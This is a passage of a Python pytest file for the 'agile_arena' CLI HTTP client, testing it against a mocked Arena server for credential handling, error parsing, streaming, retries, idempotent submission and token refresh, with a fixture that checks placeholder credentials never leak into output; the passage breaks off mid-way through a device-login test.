"""The Arena HTTP client against a fake Arena served by ``httpx.MockTransport`` (no network).

Every exception raised in these tests, everything printed or logged, and every notice shown is
scanned for the API key and tokens after each test: a credential must never leak.
"""

from __future__ import annotations

import base64
import contextlib
import email.utils
import io
import json
import logging
import os
import re
import stat
import tarfile
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from agile_arena import auth as auth_module
from agile_arena import client as client_module
from agile_arena import credentials
from agile_arena.client import (
    GENERIC_FAILURE,
    ArenaClient,
    StreamEvent,
    parse_error_body,
    parse_event,
)
from agile_arena.errors import (
    ArenaAPIError,
    ArenaAuthError,
    ArenaConfigError,
    ArenaCreditsError,
    ArenaEnvironmentNotFoundError,
    ArenaError,
    ArenaNetworkError,
    ArenaTimeoutError,
    ArenaTrainingError,
    ArenaValidationError,
)
from agile_arena.packaging import package_environment

BASE = "https://arena.test"
AUTH = "https://auth.test"
OIDC = "/realms/arena/protocol/openid-connect"
TOKEN, DEVICE, LOGOUT = f"{OIDC}/token", f"{OIDC}/auth/device", f"{OIDC}/logout"
API = "/api/cli/v1"
USER = "/api/users/current"
SUBMIT = f"{API}/experiments/jobs/submit"
EXPERIMENTS = f"{API}/experiments/list"
PROJECTS = f"{API}/projects"

API_KEY = "arena_pat_1234_SECRET-API-KEY-7f3a"
ENV_KEY = "arena_pat_5678_SECRET-ENV-KEY-0b1d"
REFRESH = "SECRET-REFRESH-TOKEN-91c2"
NEW_REFRESH = "SECRET-NEW-REFRESH-TOKEN-44e0"
SECRETS = {API_KEY, ENV_KEY, REFRESH, NEW_REFRESH}

_RAISED: list[BaseException] = []


def make_jwt(expires_in: float | None, tag: str) -> str:
    """An unsigned-looking JWT; registered as a secret."""

    def part(value: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    claims: dict[str, Any] = {"sub": tag}
    if expires_in is not None:
        claims["exp"] = int(time.time() + expires_in)
    token = f"{part({'alg': 'RS256', 'typ': 'JWT'})}.{part(claims)}.SECRET-SIGNATURE-{tag}"
    SECRETS.add(token)
    return token


@contextlib.contextmanager
def raises(kind: type[BaseException], match: str | None = None) -> Iterator[Any]:
    """``pytest.raises`` that also hands the exception to the leak check."""
    with pytest.raises(kind, match=match) as info:
        yield info
    _RAISED.append(info.value)


# -- the fake Arena ------------------------------------------------------------------------------

Reply = Exception | Callable[[httpx.Request], httpx.Response]


def reply(status: int = 200, body: Any = None, headers: dict[str, str] | None = None) -> Reply:
    """A JSON reply (``body`` None: an empty one)."""

    def respond(request: httpx.Request) -> httpx.Response:
        if body is None:
            return httpx.Response(status, headers=headers)
        return httpx.Response(status, json=body, headers=headers)

    return respond


def text(status: int, content: str, content_type: str = "text/plain") -> Reply:
    return lambda request: httpx.Response(
        status, content=content.encode(), headers={"content-type": content_type}
    )


def ndjson(*events: Any) -> Reply:
    lines = (e if isinstance(e, str) else json.dumps(e) for e in events)
    return text(200, "\n".join(lines) + "\n", "application/x-ndjson")


def dropped() -> Exception:
    return httpx.RemoteProtocolError("Server disconnected without sending a response.")


def refused() -> Exception:
    return httpx.ConnectError("[Errno 111] Connection refused")


class FakeArena:
    """Routes ``(method, path)`` to queued replies (the last one repeats); records requests."""

    def __init__(self) -> None:
        self.routes: dict[tuple[str, str], list[Reply]] = {}
        self.requests: list[httpx.Request] = []

    def on(self, method: str, path: str, *replies: Reply) -> FakeArena:
        self.routes[(method, path)] = list(replies)
        return self

    def __call__(self, request: httpx.Request) -> httpx.Response:
        request.read()
        self.requests.append(request)
        queue = self.routes.get((request.method, request.url.path))
        if not queue:
            return httpx.Response(404, json={"detail": f"no route {request.url.path}"})
        answer = queue.pop(0) if len(queue) > 1 else queue[0]
        if isinstance(answer, Exception):
            raise answer
        return answer(request)

    def sent(self, path: str) -> list[httpx.Request]:
        return [request for request in self.requests if request.url.path == path]


@pytest.fixture(autouse=True)
def no_secret_leaks(
    capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture, shown: list[str]
) -> Iterator[None]:
    caplog.set_level(logging.DEBUG, logger="agile_arena")
    _RAISED.clear()
    yield
    output = capsys.readouterr()
    texts = [output.out, output.err, caplog.text, *shown]
    for error in _RAISED:
        texts += [str(error), repr(error), str(getattr(error, "hint", ""))]
        if isinstance(error, ArenaError):
            texts += error.lines()
        texts.append(json.dumps(getattr(error, "extras", {}), default=str))
    leaked = sorted(secret for secret in SECRETS if any(secret in t for t in texts))
    assert not leaked, f"credentials leaked: {leaked}"


@pytest.fixture
def shown() -> list[str]:
    """Notices shown to the user (``notify``), also scanned for leaks."""
    return []


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    for name in ("ARENA_API_KEY", "ARENA_BASE_URL", "ARENA_KEYCLOAK_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("AGILE_NO_BROWSER", "1")
    return tmp_path / "home"


@pytest.fixture
def creds(tmp_path: Path) -> Path:
    return tmp_path / "creds"


@pytest.fixture
def arena() -> FakeArena:
    return FakeArena()


@pytest.fixture
def sleeps() -> list[float]:
    return []


@pytest.fixture
def make_client(
    arena: FakeArena, sleeps: list[float], home: Path, creds: Path
) -> Iterator[Callable[..., ArenaClient]]:
    made: list[ArenaClient] = []

    def make(**kwargs: Any) -> ArenaClient:
        kwargs.setdefault("base_url", BASE)
        kwargs.setdefault("keycloak_url", AUTH)
        kwargs.setdefault("credentials_dir", creds)
        kwargs.setdefault("transport", httpx.MockTransport(arena))
        kwargs.setdefault("sleep", sleeps.append)
        made.append(ArenaClient(**kwargs))
        return made[-1]

    yield make
    for client in made:
        client.close()


@pytest.fixture
def keyed(make_client: Callable[..., ArenaClient]) -> ArenaClient:
    return make_client(api_key=API_KEY)


@pytest.fixture
def no_jitter(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(client_module.random, "random", lambda: 1.0)


def store_tokens(creds: Path, access: str, refresh: str | None = REFRESH) -> None:
    tokens = {"access_token": access, "token_type": "Bearer"}
    if refresh:
        tokens["refresh_token"] = refresh
    credentials.save_tokens(tokens, creds)


def bearer(request: httpx.Request) -> str:
    return request.headers["authorization"].removeprefix("Bearer ")


def multipart(request: httpx.Request) -> dict[str, tuple[bytes, bytes]]:
    """The parts of a multipart body: name -> (disposition parameters, content)."""
    boundary = request.headers["content-type"].split("boundary=")[1].encode()
    parts = {}
    for chunk in request.content.split(b"--" + boundary)[1:-1]:
        head, _, body = chunk.strip(b"\r\n").partition(b"\r\n\r\n")
        found = re.search(rb'name="([^"]+)"(; filename="[^"]*")?', head)
        assert found is not None
        parts[found.group(1).decode()] = (found.group(0), body)
    return parts


def form(request: httpx.Request) -> dict[str, str]:
    return dict(httpx.QueryParams(request.content.decode()))


# -- credentials and configuration -------------------------------------------------------------


def test_credential_precedence(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    creds: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    access = make_jwt(3600, "stored")
    store_tokens(creds, access)
    arena.on("GET", USER, reply(200, {"email": "a@b.c"}))
    monkeypatch.setenv("ARENA_API_KEY", ENV_KEY)
    for api_key, expected in ((API_KEY, API_KEY), ("", ENV_KEY), (None, ENV_KEY)):
        client = make_client(api_key=api_key)
        assert client.uses_api_key and client.is_authenticated
        client.get_current_user()
        assert bearer(arena.requests[-1]) == expected
    monkeypatch.delenv("ARENA_API_KEY")
    client = make_client(api_key="")
    assert not client.uses_api_key and client.is_authenticated
    client.get_current_user()
    assert bearer(arena.requests[-1]) == access


def test_no_credential_fails_before_sending(
    make_client: Callable[..., ArenaClient], arena: FakeArena
) -> None:
    client = make_client()
    assert not client.is_authenticated
    with raises(ArenaAuthError, match="Not logged in") as info:
        client.get_current_user()
    assert "agile login" in info.value.hint
    assert arena.requests == []


def test_urls_flag_beats_environment_and_trailing_slash_is_stripped(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ARENA_BASE_URL", "https://env.example/")
    monkeypatch.setenv("ARENA_KEYCLOAK_URL", "https://env-auth.example/")
    with ArenaClient(base_url="https://flag.example/") as client:
        assert client.base_url == "https://flag.example"
        assert client.keycloak_url == "https://env-auth.example"
    monkeypatch.delenv("ARENA_BASE_URL")
    monkeypatch.delenv("ARENA_KEYCLOAK_URL")
    with ArenaClient() as client:
        assert client.base_url == "https://arena.agilerl.com"
        assert client.keycloak_url == "https://auth.arena.agilerl.com"
    with raises(ArenaConfigError, match="Invalid URL"):
        ArenaClient(base_url="arena.example")


def test_building_a_client_sends_nothing_and_repr_hides_the_key(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path, shown: list[str]
) -> None:
    store_tokens(creds, make_jwt(10, "expiring"))
    client = make_client()
    keyed = make_client(api_key=API_KEY)
    shown += [repr(client), repr(keyed)]
    assert arena.requests == []
    assert "api key" in repr(keyed) and "login" in repr(client)


# -- responses -----------------------------------------------------------------------------------


def test_envelope_is_unwrapped_and_other_replies_pass_through(
    keyed: ArenaClient, arena: FakeArena
) -> None:
    arena.on("GET", USER, reply(200, {"ok": True, "data": {"email": "a@b.c"}}))
    assert keyed.get_current_user() == {"email": "a@b.c"}
    arena.on("GET", USER, reply(200, {"email": "plain@b.c"}))
    assert keyed.get_current_user() == {"email": "plain@b.c"}
    arena.on("GET", "/api/users/credits", reply(200, {"ok": False, "credits": 3}))
    assert keyed.get_user_credits() == {"ok": False, "credits": 3}
    arena.on("POST", f"{API}/experiments/jobs/stop", text(200, "Ok"))
    assert keyed.stop_experiment("  run-1 ") == "Ok"
    assert json.loads(arena.requests[-1].content) == {"experiment_name": "run-1"}
    arena.on("DELETE", f"{API}/projects/delete", reply(204))
    assert keyed.delete_project("p") == ""
    assert json.loads(arena.requests[-1].content) == {"name": "p"}


def test_request_encoding_keeps_nulls_and_always_sent_query_keys(
    keyed: ArenaClient, arena: FakeArena
) -> None:
    arena.on("POST", f"{API}/projects/create", reply(200, {"created": True}))
    keyed.create_project("p")
    assert json.loads(arena.requests[-1].content) == {
        "name": "p",
        "description": None,
        "llm_based": False,
    }
    arena.on("GET", f"{API}/environments", reply(200, {"cartpole": {"v1": {"validated": True}}}))
    assert keyed.list_environments() == {"cartpole": {"v1": {"validated": True}}}
    assert arena.requests[-1].url.query == b"name=&include_arena=false"
    arena.on("GET", f"{API}/environments/exists", reply(200, {"exists": True}))
    assert keyed.environment_exists("cartpole") is True
    assert arena.requests[-1].url.query == b"name=cartpole&version="
    arena.on("GET", f"{API}/experiments/metrics", text(200, "step,a\n1,2\n", "text/csv"))
    body, kind, disposition = keyed.metrics_csv("run", preview_rows=5, metrics=["a", "b"])
    assert (body, kind, disposition) == (b"step,a\n1,2\n", "text/csv", None)
    query = arena.requests[-1].url.params
    assert query.get_list("metric") == ["a", "b"] and query["preview_rows"] == "5"
    assert "project" not in query


# -- error bodies ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "detail", "extras", "hint"),
    [
        ("", "No error details", {}, None),
        ("<html>Bad gateway</html>", "<html>Bad gateway</html>", {}, None),
        (
            json.dumps(
                {
                    "error": "Bad manifest",
                    "field": "training",
                    "error_code": "E1",
                    "status": 400,
                    "blank": "",
                }
            ),
            "Bad manifest",
            {"field": "training"},
            None,
        ),
        (
            json.dumps({"detail": json.dumps({"message": "inner problem", "job": "j1"})}),
            "inner problem",
            {"job": "j1"},
            None,
        ),
        (
            json.dumps(
                {
                    "description": "",
                    "message": "Upstream failed at http://validator:8080/api/v1/run (500)",
                }
            ),
            GENERIC_FAILURE,
            {},
            None,
        ),
        (
            json.dumps(
                {
                    "error": "Several entrypoints",
                    "error_code": "AMBIGUOUS_ENTRYPOINT",
                    "available_entrypoints": ["env:A", "env:B"],
                }
            ),
            "Several entrypoints",
            {"available_entrypoints": ["env:A", "env:B"]},
            "retry with --entrypoint env:A",
        ),
        ('progress\n{"error": "stream broke"}\n', "stream broke", {}, None),
    ],
)
def test_error_body_parsing(body: str, detail: str, extras: dict[str, Any], hint: str) -> None:
    parsed = parse_error_body(body)
    assert (parsed.detail, parsed.extras, parsed.hint) == (detail, extras, hint)


def test_fastapi_validation_list_falls_back_to_the_body() -> None:
    body = json.dumps({"detail": [{"loc": ["body", "name"], "msg": "field required"}]})
    assert parse_error_body(body).detail == body


def test_http_errors_pick_the_class_by_endpoint(keyed: ArenaClient, arena: FakeArena) -> None:
    arena.on("GET", USER, reply(404, {"message": "No such user"}))
    with raises(ArenaAPIError) as info:
        keyed.get_current_user()
    assert type(info.value) is ArenaAPIError and info.value.status_code == 404
    assert info.value.message == "Arena API error (404): No such user"

    body = {"error": "Environment foo not found", "error_code": "NF", "hint_field": "abc"}
    arena.on("POST", SUBMIT, reply(422, body))
    with raises(ArenaEnvironmentNotFoundError) as info:
        keyed.submit_experiment({"environment": {"name": "foo"}}, project="p")
    error = info.value
    assert error.status_code == 422 and error.extras == {"hint_field": "abc"}
    assert error.lines()[1] == "Hint field: abc"
    assert "agile arena environments upload foo --source PATH" in error.hint

    arena.on("POST", SUBMIT, reply(402, {"detail": "Insufficient credits"}))
    with raises(ArenaCreditsError) as info:
        keyed.submit_experiment({}, project="p")
    assert info.value.hint == "see `agile arena user credits`"

    arena.on("POST", f"{API}/environments/validate", reply(400, {"detail": "Bad env"}))
    with raises(ArenaValidationError, match=r"\(400\): Bad env"):
        keyed.validate_environment("env")


# -- streams -------------------------------------------------------------------------------------


def test_stream_events_and_the_last_completed_detail(keyed: ArenaClient, arena: FakeArena) -> None:
    arena.on(
        "POST",
        f"{API}/environments/validate",
        ndjson(
            {"kind": "status", "stage": "upload", "status": "started", "message": "Uploading"},
            {
                "kind": "check",
                "stage": "validation",
                "status": "completed",
                "detail": {"check": "reset", "result": {"success": True, "warnings": []}},
            },
            "pip install output, not JSON",
            {"kind": "warning", "stage": "validation", "status": "running", "message": "slow"},
            {"kind": "status", "status": "completed", "detail": {"env_info": {"obs": 4}}},
            {"kind": "status", "status": "completed", "detail": {}, "level": "secondary-info"},
        ),
    )
    events: list[StreamEvent] = []
    result = keyed.validate_environment("env", do_rollouts=True, on_event=events.append)
    assert result == {"env_info": {"obs": 4}}
    assert [e.kind for e in events] == ["status", "check", "log", "warning", "status", "status"]
    assert events[2].message == "pip install output, not JSON"
    assert events[-1].level == "secondary-info" and not any(e.error for e in events)
    assert json.loads(arena.requests[-1].content) == {
        "name": "env",
        "version": None,
        "do_rollouts": True,
    }


def test_first_failed_event_raises_the_endpoint_class(keyed: ArenaClient, arena: FakeArena) -> None:
    arena.on(
        "POST",
        SUBMIT,
        ndjson(
            {
                "kind": "status",
                "status": "failed",
                "message": "Quota exceeded for GPU",
                "detail": {"error_code": "Q", "tier": "arena-large", "none": None},
            },
            {"kind": "warning", "status": "failed", "message": "second failure"},
            {"kind": "status", "status": "completed", "detail": {"accepted": True}},
        ),
    )
    events: list[StreamEvent] = []
    with raises(ArenaTrainingError) as info:
        keyed.submit_experiment({}, project="p", on_event=events.append)
    assert info.value.status_code == 0 and info.value.detail == "Quota exceeded for GPU"
    assert info.value.extras == {"tier": "arena-large"}
    assert [e.error for e in events] == [True, True, False]

    failed = {"kind": "status", "status": "failed", "message": "Environment Maze-v9 not found"}
    arena.on("POST", SUBMIT, ndjson(failed))
    with raises(ArenaEnvironmentNotFoundError, match="Maze-v9"):
        keyed.submit_experiment({"environment": {"name": "Maze-v9"}}, project="p")

    internal = {
        "kind": "status",
        "status": "failed",
        "message": "POST http://jobs:9000/api/v2/submit returned 500",
    }
    arena.on("POST", f"{API}/environments/validate", ndjson(internal))
    with raises(ArenaValidationError) as info:
        keyed.validate_environment("env")
    assert info.value.detail == GENERIC_FAILURE


def test_a_stream_without_sockets_is_cut_off_between_chunks(
    make_client: Callable[..., ArenaClient], arena: FakeArena
) -> None:
    line = json.dumps({"kind": "status", "stage": "validation", "status": "running"}) + "\n"

    def slowly() -> Iterator[bytes]:
        for _ in range(20):  # 4 s of events, 0.2 s apart
            time.sleep(0.2)
            yield line.encode()

    arena.on(
        "POST",
        f"{API}/environments/validate",
        lambda request: httpx.Response(200, content=slowly()),
    )
    client = make_client(api_key=API_KEY, upload_timeout=0.5)
    started = time.monotonic()
    with raises(ArenaNetworkError, match=r"did not finish replying to POST \S+ within 0\.5 s"):
        client.validate_environment("env")
    assert time.monotonic() - started < 1.5


@pytest.mark.parametrize(
    ("body", "result"),
    [
        (
            '{\n  "accepted": true,\n  "experiment_id": 7\n}\n',
            {"accepted": True, "experiment_id": 7},
        ),
        ('{"ok": true, "data": {"x": 1}}', {"ok": True, "data": {"x": 1}}),
        ("[1, 2]", {}),
        ("not json at all", {}),
        ("", {}),
    ],
)
def test_stream_without_completed_event_falls_back_to_the_body(
    keyed: ArenaClient, arena: FakeArena, body: str, result: dict[str, Any]
) -> None:
    arena.on("POST", SUBMIT, text(200, body, "application/x-ndjson"))
    assert keyed.submit_experiment({}, project="p") == result


def test_parse_event_kinds() -> None:
    check = parse_event(json.dumps({"kind": "check", "status": "failed", "detail": {"x": 1}}))
    assert check.kind == "check" and not check.error
    assert parse_event("[1, 2]").kind == "log"
    assert parse_event(json.dumps({"no": "kind"})).kind == "log"


# -- retries ---------------------------------------------------------------------------------------


def test_get_is_retried_after_503_with_backoff(
    keyed: ArenaClient, arena: FakeArena, sleeps: list[float], no_jitter: None
) -> None:
    arena.on("GET", USER, reply(503), reply(502), reply(200, {"email": "a@b.c"}))
    assert keyed.get_current_user() == {"email": "a@b.c"}
    assert sleeps == [0.5, 1.0]
    assert len(arena.sent(USER)) == 3


def test_backoff_has_full_jitter(keyed: ArenaClient, arena: FakeArena, sleeps: list[float]) -> None:
    arena.on("GET", USER, reply(500), reply(500), reply(500), reply(200, {}))
    keyed.get_current_user()
    assert len(sleeps) == 3
    assert all(0 <= delay <= 0.5 * 2**attempt for attempt, delay in enumerate(sleeps))


def test_retry_after_is_honoured(keyed: ArenaClient, arena: FakeArena, sleeps: list[float]) -> None:
    later = email.utils.formatdate(time.time() + 30, usegmt=True)
    arena.on(
        "GET",
        USER,
        reply(429, {"detail": "slow down"}, {"Retry-After": "7"}),
        reply(429, None, {"Retry-After": later}),
        reply(200, {}),
    )
    keyed.get_current_user()
    assert sleeps[0] == 7.0 and 27 <= sleeps[1] <= 30.5


def test_a_very_long_retry_after_is_not_waited_for(
    keyed: ArenaClient, arena: FakeArena, sleeps: list[float]
) -> None:
    arena.on("GET", USER, reply(429, {"detail": "come back tomorrow"}, {"Retry-After": "86400"}))
    with raises(ArenaAPIError, match="come back tomorrow") as info:
        keyed.get_current_user()
    assert info.value.status_code == 429 and sleeps == []


def test_long_waits_before_a_retry_are_announced(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    sleeps: list[float],
    shown: list[str],
    no_jitter: None,
) -> None:
    client = make_client(api_key=API_KEY, notify=shown.append)
    arena.on("GET", USER, reply(429, None, {"Retry-After": "7"}), reply(200, {}))
    client.get_current_user()
    arena.on("GET", PROJECTS, refused(), refused(), refused(), refused(), reply(200, []))
    client.list_projects()
    assert sleeps == [7.0, 0.5, 1.0, 2.0, 4.0]
    assert shown == [  # the waits over 2 s
        "waiting 7.0 s: Arena asked to retry GET /api/users/current later (HTTP 429)",
        "waiting 4.0 s: retrying GET /api/cli/v1/projects after ConnectError: [Errno 111] "
        "Connection refused",
    ]


def test_retries_stop_when_the_next_wait_would_outlast_the_budget(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    sleeps: list[float],
    no_jitter: None,
) -> None:
    client = make_client(api_key=API_KEY, request_timeout=1)  # 3 s for every attempt and wait
    arena.on("GET", USER, refused())
    with raises(ArenaNetworkError, match="after 4 attempts"):
        client.get_current_user()
    assert sleeps == [0.5, 1.0, 2.0]  # a fifth attempt would wait 4 s more


@pytest.mark.parametrize(("timeout", "waited"), [(30, False), (40, True)])
def test_a_retry_after_is_waited_for_only_within_the_budget(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    sleeps: list[float],
    timeout: float,
    waited: bool,
) -> None:
    client = make_client(api_key=API_KEY, request_timeout=timeout)  # budget 90 s, then 120 s
    arena.on("GET", USER, reply(429, {"detail": "busy"}, {"Retry-After": "100"}), reply(200, {}))
    if waited:
        assert client.get_current_user() == {}
        assert sleeps == [100.0]
        return
    with raises(ArenaAPIError, match=r"\(429\): busy") as info:
        client.get_current_user()
    assert sleeps == [] and len(arena.sent(USER)) == 1
    assert info.value.hint is not None
    assert info.value.hint.startswith("Arena asked to wait 100 s before retrying, longer than the")
    assert "allow more time with --request-timeout" in info.value.hint


def test_exhausted_retries_raise_network_error(
    keyed: ArenaClient, arena: FakeArena, sleeps: list[float], no_jitter: None
) -> None:
    arena.on("GET", USER, refused())
    with raises(
        ArenaNetworkError, match="could not connect to arena.test after 5 attempts"
    ) as info:
        keyed.get_current_user()
    assert info.value.status_code == 0
    assert info.value.hint == "check --base-url / ARENA_BASE_URL and your connection"
    assert sleeps == [0.5, 1.0, 2.0, 4.0]
    assert len(arena.requests) == 5


def test_exhausted_retries_raise_the_last_http_error(
    make_client: Callable[..., ArenaClient], arena: FakeArena, sleeps: list[float]
) -> None:
    client = make_client(api_key=API_KEY, max_retries=2)
    arena.on("GET", USER, reply(500, {"detail": "first"}), reply(504, {"detail": "last"}))
    with raises(ArenaAPIError, match=r"\(504\): last") as info:
        client.get_current_user()
    assert "try again later" in info.value.hint
    assert len(arena.requests) == 3 and len(sleeps) == 2


def test_post_is_not_retried_after_500_or_a_read_timeout(
    keyed: ArenaClient, arena: FakeArena, sleeps: list[float]
) -> None:
    create = f"{API}/projects/create"
    arena.on("POST", create, reply(500, {"detail": "boom"}), reply(200, {}))
    with raises(ArenaAPIError, match="boom"):
        keyed.create_project("p")
    arena.on("POST", create, httpx.ReadTimeout("timed out"), reply(200, {}))
    with raises(ArenaNetworkError, match="did not answer within 30 s"):
        keyed.create_project("p")
    assert len(arena.sent(create)) == 2 and sleeps == []


def test_post_is_retried_when_the_server_cannot_have_acted(
    keyed: ArenaClient, arena: FakeArena, sleeps: list[float]
) -> None:
    create = f"{API}/projects/create"
    arena.on("POST", create, refused(), reply(503), reply(429), reply(200, {"name": "p"}))
    assert keyed.create_project("p") == {"name": "p"}
    assert len(arena.sent(create)) == 4 and len(sleeps) == 3


def test_delete_is_retried_after_a_dropped_connection(keyed: ArenaClient, arena: FakeArena) -> None:
    arena.on("DELETE", f"{API}/projects/delete", dropped(), reply(200, {"deleted": True}))
    assert keyed.delete_project("p") == {"deleted": True}


# -- submission --------------------------------------------------------------------------------

ACCEPTED = {
    "kind": "status",
    "stage": "submission",
    "status": "completed",
    "detail": {"accepted": True, "experiment_id": 7},
}


def test_submit_is_resent_with_the_same_idempotency_key(
    keyed: ArenaClient, arena: FakeArena
) -> None:
    arena.on("POST", SUBMIT, dropped(), reply(502), ndjson(ACCEPTED))
    result = keyed.submit_experiment({"algorithm": {"name": "PPO"}}, project="p", num_nodes=2)
    assert result == {"accepted": True, "experiment_id": 7}
    keys = [request.headers["idempotency-key"] for request in arena.sent(SUBMIT)]
    assert len(keys) == 3 and len(set(keys)) == 1 and uuid.UUID(keys[0])
    assert json.loads(arena.requests[-1].content) == {
        "manifest": {"algorithm": {"name": "PPO"}},
        "resource_id": None,
        "num_nodes": 2,
        "project": "p",
        "experiment_name": None,
    }
    arena.on("POST", SUBMIT, ndjson(ACCEPTED))
    keyed.submit_experiment({}, project="p")
    assert arena.requests[-1].headers["idempotency-key"] != keys[0]
    assert arena.sent(EXPERIMENTS) == []  # unnamed: nothing to look for


def test_named_submit_is_recovered_instead_of_resent(keyed: ArenaClient, arena: FakeArena) -> None:
    arena.on("GET", EXPERIMENTS, reply(200, []), reply(200, [{"name": "run-7"}]))
    arena.on("POST", SUBMIT, httpx.ReadTimeout("timed out"), ndjson(ACCEPTED))
    result = keyed.submit_experiment({}, project="p", experiment_name="run-7")
    assert result == {"accepted": True, "experiment_name": "run-7", "recovered": True}
    assert len(arena.sent(SUBMIT)) == 1
    assert len(arena.sent(EXPERIMENTS)) == 2  # before sending, and before the resend
    assert arena.sent(EXPERIMENTS)[0].url.params["project"] == "p"


def test_named_submit_is_resent_when_the_experiment_did_not_appear(
    keyed: ArenaClient, arena: FakeArena
) -> None:
    older = {"name": "run-7", "id": 1}  # an earlier experiment with the same name
    arena.on("GET", EXPERIMENTS, reply(200, [older]))
    arena.on("POST", SUBMIT, dropped(), ndjson(ACCEPTED))
    result = keyed.submit_experiment({}, project="p", experiment_name="run-7")
    assert result == {"accepted": True, "experiment_id": 7}
    submits = arena.sent(SUBMIT)
    assert len(submits) == 2
    assert submits[0].headers["idempotency-key"] == submits[1].headers["idempotency-key"]


def test_submit_refused_with_503_needs_no_recovery_check(
    keyed: ArenaClient, arena: FakeArena
) -> None:
    arena.on("GET", EXPERIMENTS, reply(200, []))
    arena.on("POST", SUBMIT, reply(503), ndjson(ACCEPTED))
    keyed.submit_experiment({}, project="p", experiment_name="run-8")
    assert len(arena.sent(EXPERIMENTS)) == 1 and len(arena.sent(SUBMIT)) == 2


def test_submit_uses_the_default_project(keyed: ArenaClient, arena: FakeArena, creds: Path) -> None:
    credentials.save_default_project("stored", creds)
    arena.on("POST", SUBMIT, ndjson(ACCEPTED))
    keyed.submit_experiment({})
    assert json.loads(arena.requests[-1].content)["project"] == "stored"


# -- tokens ----------------------------------------------------------------------------------------


def new_tokens(tag: str, refresh: str | None = NEW_REFRESH) -> dict[str, Any]:
    tokens: dict[str, Any] = {"access_token": make_jwt(3600, tag), "expires_in": 3600}
    if refresh:
        tokens["refresh_token"] = refresh
    return tokens


def test_401_refreshes_once_and_resends(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    old = make_jwt(3600, "old")
    store_tokens(creds, old)
    fresh = new_tokens("fresh", refresh=None)
    arena.on("GET", USER, reply(401, {"detail": "token revoked"}), reply(200, {"email": "a"}))
    arena.on("POST", TOKEN, reply(200, fresh))
    client = make_client()
    assert client.get_current_user() == {"email": "a"}
    assert [bearer(r) for r in arena.sent(USER)] == [old, fresh["access_token"]]
    assert form(arena.sent(TOKEN)[0]) == {
        "grant_type": "refresh_token",
        "refresh_token": REFRESH,
        "client_id": "arena-cli",
    }
    stored = credentials.load_tokens(creds)
    assert stored and stored["access_token"] == fresh["access_token"]
    assert stored["refresh_token"] == REFRESH  # kept when the reply has none


def test_a_second_401_is_a_session_error(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    store_tokens(creds, make_jwt(3600, "old"))
    arena.on("GET", USER, reply(401))
    arena.on("POST", TOKEN, reply(200, new_tokens("fresh")))
    with raises(ArenaAuthError, match="session has expired"):
        make_client().get_current_user()
    assert len(arena.sent(USER)) == 2 and len(arena.sent(TOKEN)) == 1


def test_revoked_refresh_token_asks_for_login(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    store_tokens(creds, make_jwt(3600, "old"))
    arena.on("GET", USER, reply(401))
    arena.on("POST", TOKEN, reply(400, {"error": "invalid_grant", "error_description": REFRESH}))
    with raises(ArenaAuthError) as info:
        make_client().get_current_user()
    assert info.value.message == "Your Arena session has expired"
    assert info.value.hint == "run `agile login`"
    assert info.value.lines() == ["Your Arena session has expired (run `agile login`)"]


def test_rejected_api_key(keyed: ArenaClient, arena: FakeArena, creds: Path) -> None:
    store_tokens(creds, make_jwt(3600, "unused"))
    arena.on("GET", USER, reply(401, {"detail": f"bad token {API_KEY}"}))
    with raises(ArenaAuthError) as info:
        keyed.get_current_user()
    assert info.value.message == "Arena rejected the API key"
    assert info.value.hint == "check --api-key or ARENA_API_KEY"
    assert arena.sent(TOKEN) == [] and len(arena.sent(USER)) == 1


def test_an_expiring_token_is_refreshed_before_use(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    store_tokens(creds, make_jwt(30, "expiring"))
    fresh = new_tokens("fresh")
    arena.on("POST", TOKEN, reply(200, fresh))
    arena.on("GET", USER, reply(200, {}))
    client = make_client()
    assert arena.requests == []
    client.get_current_user()
    assert [r.url.path for r in arena.requests] == [TOKEN, USER]
    assert bearer(arena.requests[-1]) == fresh["access_token"]
    client.get_current_user()
    assert len(arena.sent(TOKEN)) == 1
    assert credentials.load_tokens(creds)["refresh_token"] == NEW_REFRESH


def test_a_token_of_unknown_expiry_is_not_refreshed_in_advance(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    store_tokens(creds, make_jwt(None, "no-exp"))
    arena.on("GET", USER, reply(200, {}))
    make_client().get_current_user()
    assert arena.sent(TOKEN) == []


def test_a_rejected_advance_refresh_is_not_tried_again_after_401(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    old = make_jwt(30, "expiring")
    store_tokens(creds, old)
    arena.on("POST", TOKEN, reply(400, {"error": "invalid_grant"}))
    arena.on("GET", USER, reply(401))
    with raises(ArenaAuthError, match="session has expired"):
        make_client().get_current_user()
    assert len(arena.sent(TOKEN)) == 1 and bearer(arena.sent(USER)[0]) == old


# -- login and logout ------------------------------------------------------------------------


def device_start(**extra: Any) -> Reply:
    body = {
        "device_code": "DEVICE-1",
        "user_code": "ABCD-EFGH",
        "verification_uri": "https://auth.test/device",
        "interval": 2,
        **extra,
    }
    return reply(200, body)


def test_device_flow_polls_until_success_and_saves_private_tokens(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    creds: Path,
    sleeps: list[float],
    shown: list[str],
) -> None:
    tokens = new_tokens("login")
    arena.on("POST", DEVICE, device_start())
    arena.on(
        "POST",
        TOKEN,
        reply(400, {"error": "authorization_pending"}),
